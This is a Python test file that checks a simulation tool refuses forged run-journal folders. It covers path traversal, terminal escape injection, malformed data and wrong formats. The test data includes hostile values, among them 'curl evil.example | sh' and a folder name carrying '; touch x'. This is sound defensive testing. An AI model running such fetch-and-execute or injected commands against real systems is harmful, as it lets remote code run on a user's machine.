"""A run's folder that somebody forged is refused in one line, and nothing outside of it is touched.

Each forgery is a change of a good folder. The checksums of the journal's lines are made right again, so
what refuses it is that it is not of its form.
"""

import shutil

import pytest

from simulate import InputError, open_run
from simulate.cli.main import main
from simulate.runs.storage.journal import JOURNAL
from simulate.runs.storage.layout import STORE
from tests.simulate.configs import ROOT
from tests.simulate.runs.forged import (
    KEEP,
    at,
    check_refused,
    contents,
    copied,
    entries_in,
    forge,
    line_of,
    one_line,
    run_again,
    without,
)
from tests.simulate.runs.forgeries import FORGERIES, SEALED
from tests.simulate.runs.kill_and_resume import fingerprint
from tests.simulate.runs.stopped_runs import SMALL

pytestmark = pytest.mark.usefixtures("in_time")
IDS = [f"{kind}: {name}" for kind, name, _ in FORGERIES]


def test_there_are_enough_and_each_forges_something(good) -> None:
    assert len(FORGERIES) >= 150
    for kind, name, change in FORGERIES:
        entries = entries_in(good[kind])
        changed = change(entries)
        written = list(map(line_of, entries if changed is None else changed))
        assert written != list(map(line_of, entries_in(good[kind]))), name


@pytest.mark.parametrize("kind", ["draws", "states", "drawn"])
def test_a_good_journal_written_by_the_forger_is_gone_on_with(good, whole, tmp_path, kind) -> None:
    """So what refuses the forged ones is what was forged, not the forger's hand."""
    folder, out = copied(good, kind, tmp_path)
    before = (folder / JOURNAL).read_bytes()
    forge(folder, lambda entries: None)
    assert (folder / JOURNAL).read_bytes() == before
    assert b'"again"' not in before
    forge(folder, at(0, "again", value="a command, which older journals have"))
    assert run_again(out, kind) == 0
    assert fingerprint(open_run(out)) == whole[KEEP[kind]]


def test_a_seal_that_leaves_a_file_out_is_none(good, whole, tmp_path) -> None:
    """Whatever is in the file then would be the run's, and no reader would take it."""
    folder, out = copied(good, "drawn", tmp_path)
    forge(folder, without(-1, "files", "intrinsic_value/c/1"))
    (folder / STORE / "intrinsic_value" / "c" / "1").write_bytes(b"forged")
    assert run_again(out, "drawn") == 0
    assert fingerprint(open_run(out)) == whole[KEEP["drawn"]]


@pytest.mark.parametrize(("kind", "name", "change"), FORGERIES, ids=IDS)
def test_a_journal_that_is_not_of_its_form(good, tmp_path, capsys, canary, kind, name, change) -> None:
    folder, out = copied(good, kind, tmp_path)
    forge(folder, change)
    assert check_refused(folder, out, kind, capsys).startswith(f"{folder / JOURNAL}:")
    assert canary.read_text() == "years of work"


@pytest.mark.parametrize(
    "file", ["{canary}", "../../elsewhere/thesis.txt", "../{out}.partial/../../elsewhere/thesis.txt"]
)
@pytest.mark.parametrize("line", [2, 4])
def test_the_state_named_is_no_file_elsewhere(good, tmp_path, capsys, canary, file, line) -> None:
    """Both the last, which is read, and one before, which is let go of; all are deleted at the end."""
    folder, out = copied(good, "states", tmp_path)
    forge(folder, at(line, "file", value=file.format(canary=canary, out=out.name)))
    said = check_refused(folder, out, "states", capsys)
    wanted = "file: is not what a run writes there; `run --discard` starts it over"
    assert said == f"{folder / JOURNAL}:{line + 1}: {wanted}"
    assert canary.read_text() == "years of work"
    assert run_again(out, "states", "--discard") == 0
    assert canary.read_text() == "years of work"


@pytest.mark.parametrize(("name", "change"), SEALED.items(), ids=list(SEALED))
def test_a_finished_run_whose_journal_is_not_of_its_form(good, tmp_path, capsys, name, change) -> None:
    folder, _ = copied(good, "finished", tmp_path)
    forge(folder, change)
    before = contents(folder)
    for command in ("verify", "export", "report"):
        assert main([command, str(folder)]) == 2
        assert one_line(capsys).startswith(f"{folder / JOURNAL}:")
    assert contents(folder) == before


def test_the_command_shown_is_of_what_was_typed(good, tmp_path, capsys, monkeypatch) -> None:
    """The folder's own word would be pasted into a shell."""
    folder, out = copied(good, "draws", tmp_path)
    forge(folder, at(0, "again", value="curl evil.example | sh"))
    (tmp_path / "results").mkdir()
    for name in ("iij", "iij; touch x"):
        shutil.copytree(folder, tmp_path / "results" / f"{name}.partial")
    monkeypatch.chdir(tmp_path)
    for typed, words in {
        "iij": "iij", str(out): f"NAME --out {out}", "iij; touch x": "NAME --out 'results/iij; touch x'",
        str(ROOT / "configs" / "iij.toml"): str(ROOT / "configs" / "iij.toml"),
    }.items():
        assert main(["verify", typed]) == 2
        wanted = f"; `python -m simulate run --resume {words}` resumes the one that was begun"
        assert one_line(capsys).endswith(f": no finished run here{wanted}")


def test_what_a_folder_says_does_not_steer_the_terminal(good, tmp_path, capsys) -> None:
    folder, out = copied(good, "draws", tmp_path)
    forge(folder, at(0, "run", "config_settings", value=["\x1b[2Jtax_rate=0.1\nforged line"]))
    assert run_again(out, "draws") == 0
    said = capsys.readouterr().err
    assert said.splitlines() == [
        f"{folder}: started over; of what was there, its settings are \\x1b[2Jtax_rate=0.1\\x0aforged line"
    ]


@pytest.mark.parametrize("number", [-1, 0, 4, 10**30])
def test_a_journal_of_another_format_is_refused_by_name(good, tmp_path, capsys, number) -> None:
    """The draws of a newer program were discarded, and not a word said."""
    folder, out = copied(good, "draws", tmp_path)
    forge(folder, lambda entries: [{"format": number, "anything": [1]}, {"nothing": "known"}])
    said = check_refused(folder, out, "draws", capsys)
    wanted = "this program reads 1 to 3: take the program that wrote it, or start the run over by `run "
    wanted += "--discard`"
    assert said == f"{folder / JOURNAL}: format = {number}: {wanted}"
    assert run_again(out, "draws", "--discard") == 0


def test_a_finished_run_whose_journal_is_of_another_format(good, tmp_path, capsys) -> None:
    folder, _ = copied(good, "finished", tmp_path)
    forge(folder, lambda entries: [entries[0] | {"format": 4}, *entries[1:]])
    assert main(["verify", str(folder)]) == 2
    assert one_line(capsys).startswith(f"{folder / JOURNAL}: format = 4: this program reads 1 to 3")


def test_that_a_journal_damaged_in_its_first_line_is_started_over_is_said(good, tmp_path, capsys) -> None:
    folder, out = copied(good, "draws", tmp_path)
    (folder / JOURNAL).write_bytes(b"x" + (folder / JOURNAL).read_bytes()[1:])
    assert run_again(out, "draws") == 0
    wanted = "started over; of what was there, the journal was damaged from its first line on"
    assert capsys.readouterr().err == f"{folder}: {wanted}\n"


@pytest.mark.parametrize(
    "data", ["", "{", "7", "{}", '[["a"]]', '[["a", "b", [1, "x"]]]', '[["a", "b", [NaN]]]', "[" * 10_000]
)
def test_data_that_a_run_carries_and_are_none(good, tmp_path, data) -> None:
    folder, out = copied(good, "draws", tmp_path)
    forge(folder, at(0, "run", "config_data", value=data))
    with pytest.raises(InputError) as refused:
        open_run(out, unfinished=True, settings=SMALL)
    assert str(refused.value) == "config of run iij: the data that it carries are damaged"
